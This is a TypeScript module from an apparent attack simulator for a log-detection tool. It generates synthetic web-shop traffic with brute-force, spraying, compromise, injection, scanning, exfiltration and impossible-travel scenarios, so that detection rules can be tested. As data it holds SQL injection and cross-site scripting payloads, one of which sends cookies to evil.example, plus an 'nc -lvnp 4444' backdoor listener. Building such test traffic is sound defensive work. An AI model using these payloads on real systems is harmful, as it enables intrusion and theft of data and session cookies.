// The attack simulator's scenarios: realistic normal traffic of a small web shop (nginx access, SSH logins, host
// network activity) with one attack mixed in, each as raw lines and documents stamped over the last few minutes.
// Addresses of attackers are public ones of the kind seen in real brute-force and scanning logs, so that GeoIP and the
// threat map have something to show; the shop's customers and staff use the MaxMind test ranges and private ones.

/** A seeded generator (mulberry32), so that a scenario is the same traffic every time for a given seed. */
export class Random {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0;
  }
  next(): number {
    let t = (this.state = (this.state + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }
}

/** What a scenario sends, each item with its event time (ms). */
export interface Traffic {
  /** sshd, sudo … messages, sent as RFC 5424 syslog over TCP: `{ program, pid, message }`. */
  syslog: { at: number; program: string; pid: number; message: string }[];
  /** nginx combined-format access lines, sent as text to the HTTP API. */
  access: { at: number; line: string }[];
  /** ECS documents (host.network …), sent as JSON to the HTTP API. */
  documents: { at: number; doc: Record<string, unknown> }[];
}

export interface ScenarioContext {
  /** End of the simulated span (ms); events fall within the `spanMs` before it. */
  now: number;
  spanMs: number;
  random: Random;
  /** The monitored host's name. */
  host: string;
}

export interface Scenario {
  name: string;
  description: string;
  /** Ids of the rules that must fire on it (and no others); spraying is also brute force, as any rule counts it. */
  expect: string[];
  generate(ctx: ScenarioContext): Traffic;
}

const CUSTOMERS = ['81.2.69.142', '81.2.69.160', '89.160.20.112', '89.160.20.128', '216.160.83.56', '175.16.199.4', '2.125.160.216', '67.43.156.1', '202.196.224.5', '149.101.100.3'];
const STAFF = ['10.0.0.21', '10.0.0.22', '10.0.0.35'];
const STAFF_USERS = ['alice', 'deploy', 'backup'];
const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1',
];
const PAGES = ['/', '/products', '/products/1042', '/products/2211?color=blue&size=m', '/cart', '/search?q=walking+shoes', '/about', '/static/app.3f9c2.js', '/static/style.8a1b.css', '/images/hero.webp', '/api/cart?items=3'];
/** Attackers: addresses from ranges that show up in public brute-force and scanning reports. */
const ATTACKERS = { ssh: '218.92.0.107', spray: '61.177.172.13', web: '45.155.205.233', scanner: '185.220.101.34', exfil: '5.188.10.176' };
/** Impossible travel: a remote employee at home in the United Kingdom, and her stolen key used from Brazil. */
const TRAVEL = { user: 'carol', home: '81.2.69.192', away: '177.54.144.1' } as const;

/** The ids of the built-in rules (rules/) each scenario must raise. */
const RULES = {
  bruteForce: '6f0d1c3e-8a52-4c47-9a57-0b1f3d6c2a01',
  spraying: '2b6e4f0a-1c3d-4e5f-8a7b-9c0d1e2f3a03',
  successAfterBruteForce: '9e8d7c6b-5a4f-4e3d-8c2b-1a0f9e8d7c05',
  sudoRootShell: '3f1e9a27-6c4b-4d8e-9a15-2b7c0d4e6f21',
  backdoorListener: '7c2d4e6f-8a0b-4c1d-9e3f-5a7b9c1d3e22',
  portScan: '8e7f6a5b-4c3d-4e2f-a1b0-c9d8e7f6a515',
  largeTransfer: '9a1b3c5d-7e9f-4a2b-8c4d-6e8f0a2b4c23',
  errorSpike: '2d3e4f5a-6b7c-4d8e-9f0a-1b2c3d4e5f17',
  impossibleTravel: '8afdeb73-249d-4591-9210-bc2c261e8006',
  sqli: '304ab813-f8b6-4608-a414-4481ca1f0a9e',
  xss: 'dbb0d28e-9a43-4f2e-94a1-0a2d62d347fb',
} as const;

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** nginx's `$time_local`, in UTC: `21/Nov/2026:14:00:00 +0000`. */
function timeLocal(ms: number): string {
  const d = new Date(ms);
  const p = (n: number) => String(n).padStart(2, '0');
  return `${p(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} +0000`;
}

export function accessLine(at: number, ip: string, method: string, target: string, status: number, bytes: number, agent: string, referrer = '-'): { at: number; line: string } {
  return { at, line: `${ip} - - [${timeLocal(at)}] "${method} ${target} HTTP/1.1" ${status} ${bytes} "${referrer}" "${agent}"` };
}

/** Evenly spread times over [from, to) with a little jitter, in order. */
function times(ctx: ScenarioContext, count: number, from: number, to: number): number[] {
  const step = (to - from) / Math.max(1, count);
  return Array.from({ length: count }, (_, i) => Math.floor(from + i * step + ctx.random.next() * step * 0.5));
}

/** Normal activity: shoppers browsing, staff logging in with keys, the host's usual connections. */
export function normalTraffic(ctx: ScenarioContext): Traffic {
  const start = ctx.now - ctx.spanMs;
  const traffic: Traffic = { syslog: [], access: [], documents: [] };
  for (const at of times(ctx, Math.max(20, Math.round(ctx.spanMs / 1000)), start, ctx.now)) {
    const page = ctx.random.pick(PAGES);
    const status = page.startsWith('/static') && ctx.random.next() < 0.3 ? 304 : 200;
    traffic.access.push(accessLine(at, ctx.random.pick(CUSTOMERS), 'GET', page, status, status === 304 ? 0 : ctx.random.int(800, 48_000), ctx.random.pick(BROWSERS), 'https://shop.example.com/'));
  }
  for (const at of times(ctx, 3, start, ctx.now)) {
    const i = ctx.random.int(0, STAFF.length - 1);
    const pid = ctx.random.int(2000, 30_000);
    traffic.syslog.push({ at, program: 'sshd', pid, message: `Accepted publickey for ${STAFF_USERS[i]} from ${STAFF[i]} port ${ctx.random.int(40_000, 60_000)} ssh2: ED25519 SHA256:q8H1wY0aZr6J1l8sZ4x0B3d7m2pTfVnC9eKgUoRiLhw` });
    traffic.syslog.push({ at: at + 50, program: 'sshd', pid, message: `pam_unix(sshd:session): session opened for user ${STAFF_USERS[i]}(uid=${1000 + i}) by (uid=0)` });
  }
  return traffic;
}

function sshFailures(ctx: ScenarioContext, ip: string, users: readonly string[], from: number, to: number): Traffic['syslog'] {
  return times(ctx, users.length, from, to).map((at, i) => {
    const user = users[i]!;
    const invalid = !['root', 'admin', 'bob'].includes(user);
    return {
      at,
      program: 'sshd',
      pid: 4000 + i,
      message: invalid ? `Failed password for invalid user ${user} from ${ip} port ${40_000 + i} ssh2` : `Failed password for ${user} from ${ip} port ${40_000 + i} ssh2`,
    };
  });
}

function bruteForce(ctx: ScenarioContext, from: number, to: number): Traffic['syslog'] {
  return sshFailures(ctx, ATTACKERS.ssh, Array.from({ length: 30 }, (_, i) => (i % 3 === 0 ? 'admin' : 'root')), from, to);
}

function networkEvent(at: number, host: string, action: string, fields: Record<string, unknown>): { at: number; doc: Record<string, unknown> } {
  return { at, doc: { '@timestamp': new Date(at).toISOString(), event: { dataset: 'host.network', kind: 'event', category: ['network'], action, module: 'vigil-simulate' }, host: { name: host }, ...fields } };
}

const WEB_ATTACKS = {
  sqli: [
    "/products?id=1' OR '1'='1",
    '/products?id=1 UNION SELECT username,password FROM users--',
    "/search?q=shoes' AND SLEEP(5)-- -",
    '/products?id=1;DROP TABLE orders',
    "/login?user=admin'--&pass=x",
    '/products?id=-1 UNION ALL SELECT NULL,NULL,@@version#',
  ],
  xss: [
    '/search?q=<script>alert(document.cookie)</script>',
    '/search?q=<img src=x onerror=alert(1)>',
    '/search?q="><svg/onload=alert(String.fromCharCode(88,83,83))>',
    '/products?ref=javascript:alert(1)',
    "/search?q=<body onload=fetch('//evil.example/'+document.cookie)>",
    '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  ],
} as const;

function encodeTarget(target: string): string {
  // What a browser or attack tool puts on the wire: spaces and quotes percent-encoded, the rest as typed.
  return target.replace(/ /g, '%20').replace(/"/g, '%22').replace(/'/g, '%27').replace(/</g, '%3C').replace(/>/g, '%3E');
}

function webAttack(ctx: ScenarioContext, kind: keyof typeof WEB_ATTACKS): Traffic['access'] {
  const start = ctx.now - ctx.spanMs / 2;
  const agent = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36';
  return times(ctx, WEB_ATTACKS[kind].length, start, ctx.now).map((at, i) => accessLine(at, ATTACKERS.web, 'GET', encodeTarget(WEB_ATTACKS[kind][i]!), i % 2 === 0 ? 200 : 500, ctx.random.int(200, 5000), agent));
}

const empty = (): Traffic => ({ syslog: [], access: [], documents: [] });

/** The scenarios `vigil simulate --scenario NAME` knows, in the order `all` runs them. */
export const SCENARIOS: readonly Scenario[] = [
  {
    name: 'brute-force',
    description: `30 failed SSH passwords for root and admin from ${ATTACKERS.ssh} within two minutes`,
    expect: [RULES.bruteForce],
    generate: (ctx) => ({ ...empty(), syslog: bruteForce(ctx, ctx.now - 120_000, ctx.now) }),
  },
  {
    name: 'spraying',
    description: `one failed SSH password for each of 25 different users from ${ATTACKERS.spray}`,
    expect: [RULES.spraying, RULES.bruteForce],
    generate: (ctx) => ({
      ...empty(),
      syslog: sshFailures(ctx, ATTACKERS.spray, ['oracle', 'postgres', 'ubuntu', 'test', 'user', 'git', 'jenkins', 'ftp', 'mysql', 'www', 'pi', 'guest', 'support', 'hadoop', 'elastic', 'nagios', 'tomcat', 'dev', 'minecraft', 'steam', 'ansible', 'vagrant', 'docker', 'zabbix', 'redis'], ctx.now - 180_000, ctx.now),
    }),
  },
  {
    name: 'compromise',
    description: `brute force from ${ATTACKERS.ssh}, then a successful login as bob from it, sudo to root, and a new listener on port 4444`,
    expect: [RULES.bruteForce, RULES.successAfterBruteForce, RULES.sudoRootShell, RULES.backdoorListener],
    generate: (ctx) => {
      const t = ctx.now - 150_000;
      const traffic = empty();
      traffic.syslog.push(...bruteForce(ctx, t, t + 90_000));
      traffic.syslog.push({ at: t + 100_000, program: 'sshd', pid: 5100, message: `Accepted password for bob from ${ATTACKERS.ssh} port 51111 ssh2` });
      traffic.syslog.push({ at: t + 120_000, program: 'sudo', pid: 5200, message: 'bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash' });
      traffic.documents.push(
        networkEvent(t + 140_000, ctx.host, 'listening_started', {
          network: { transport: 'tcp', type: 'ipv4' },
          destination: { ip: '0.0.0.0', port: 4444 },
          process: { pid: 5300, name: 'nc', executable: '/usr/bin/nc', command_line: 'nc -lvnp 4444' },
          user: { name: 'root' },
        }),
      );
      return traffic;
    },
  },
  { name: 'sqli', description: `SQL injection attempts against the shop from ${ATTACKERS.web}`, expect: [RULES.sqli], generate: (ctx) => ({ ...empty(), access: webAttack(ctx, 'sqli') }) },
  { name: 'xss', description: `cross-site scripting attempts against the shop from ${ATTACKERS.web}`, expect: [RULES.xss], generate: (ctx) => ({ ...empty(), access: webAttack(ctx, 'xss') }) },
  {
    name: 'scan',
    description: `a port scan of ${'the host'} from ${ATTACKERS.scanner}: connection attempts to 60 ports in a minute`,
    expect: [RULES.portScan],
    generate: (ctx) => {
      const ports = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 1723, 2049, 2375, 3000, 3306, 3389, 5000, 5432, 5601, 5900, 5985, 6379, 6443, 7001, 8000, 8008, 8080, 8081, 8443, 8888, 9000, 9090, 9200, 9300, 10000, 11211, 15672, 27017, 50000, 631, 389, 636, 873, 902, 1080, 1194, 1883, 2181, 2222, 4369, 5060, 5672, 9092];
      return {
        ...empty(),
        documents: times(ctx, ports.length, ctx.now - 60_000, ctx.now).map((at, i) =>
          networkEvent(at, ctx.host, 'connection_attempted', {
            network: { transport: 'tcp', type: 'ipv4', direction: 'ingress' },
            source: { ip: ATTACKERS.scanner, port: 50_000 + i },
            destination: { ip: '10.0.0.5', port: ports[i]! },
          }),
        ),
      };
    },
  },
  {
    name: 'exfil',
    description: `${ATTACKERS.exfil} downloads backups and exports totalling over 3 GB in five minutes`,
    expect: [RULES.largeTransfer],
    generate: (ctx) => ({
      ...empty(),
      access: times(ctx, 8, ctx.now - 300_000, ctx.now).map((at, i) =>
        accessLine(at, ATTACKERS.exfil, 'GET', i % 2 === 0 ? `/backup/db-2024-0${(i % 9) + 1}.sql.gz` : `/export/customers.csv?page=${i}`, 200, 400_000_000 + i * 1_000_000, 'curl/8.5.0'),
      ),
    }),
  },
  {
    name: 'impossible-travel',
    description: `${TRAVEL.user} logs in over SSH from the United Kingdom (${TRAVEL.home}), then minutes later from Brazil (${TRAVEL.away})`,
    expect: [RULES.impossibleTravel],
    generate: (ctx) => {
      const traffic = empty();
      const key = 'ED25519 SHA256:Zt3kF0pQ8wR1yV6nB2mC9xL4hJ7gD5sA0eU3iO8rTqY';
      traffic.syslog.push({ at: ctx.now - Math.round(ctx.spanMs * 0.8), program: 'sshd', pid: 6100, message: `Accepted publickey for ${TRAVEL.user} from ${TRAVEL.home} port 52814 ssh2: ${key}` });
      traffic.syslog.push({ at: ctx.now - Math.round(ctx.spanMs * 0.2), program: 'sshd', pid: 6200, message: `Accepted publickey for ${TRAVEL.user} from ${TRAVEL.away} port 40122 ssh2: ${key}` });
      return traffic;
    },
  },
  {
    name: 'error-spike',
    description: 'the shop starts failing: 5xx answers jump from none in the hour before to half of all requests',
    expect: [RULES.errorSpike],
    generate: (ctx) => {
      const traffic = empty();
      // The healthy hour before, which the error rate is compared with.
      for (const at of times(ctx, 240, ctx.now - 65 * 60_000, ctx.now - ctx.spanMs)) {
        traffic.access.push(accessLine(at, ctx.random.pick(CUSTOMERS), 'GET', ctx.random.pick(PAGES), 200, ctx.random.int(800, 48_000), ctx.random.pick(BROWSERS)));
      }
      for (const at of times(ctx, 120, ctx.now - 60_000, ctx.now)) {
        const failing = ctx.random.next() < 0.5;
        traffic.access.push(accessLine(at, ctx.random.pick(CUSTOMERS), 'GET', ctx.random.pick(['/cart', '/api/cart?items=2', '/checkout']), failing ? ctx.random.pick([500, 502, 503, 504]) : 200, failing ? 157 : ctx.random.int(900, 9000), ctx.random.pick(BROWSERS)));
      }
      return traffic;
    },
  },
];

export function scenarioNames(): string[] {
  return SCENARIOS.map((s) => s.name);
}

/** Normal traffic plus the chosen scenarios' attacks, each list in time order. */
export function buildTraffic(names: readonly string[], ctx: ScenarioContext): Traffic {
  const traffic = normalTraffic(ctx);
  for (const name of names) {
    const scenario = SCENARIOS.find((s) => s.name === name);
    if (!scenario) throw new Error(`unknown scenario ${name}`);
    const part = scenario.generate(ctx);
    traffic.syslog.push(...part.syslog);
    traffic.access.push(...part.access);
    traffic.documents.push(...part.documents);
  }
  for (const list of [traffic.syslog, traffic.access, traffic.documents]) list.sort((a, b) => a.at - b.at);
  return traffic;
}
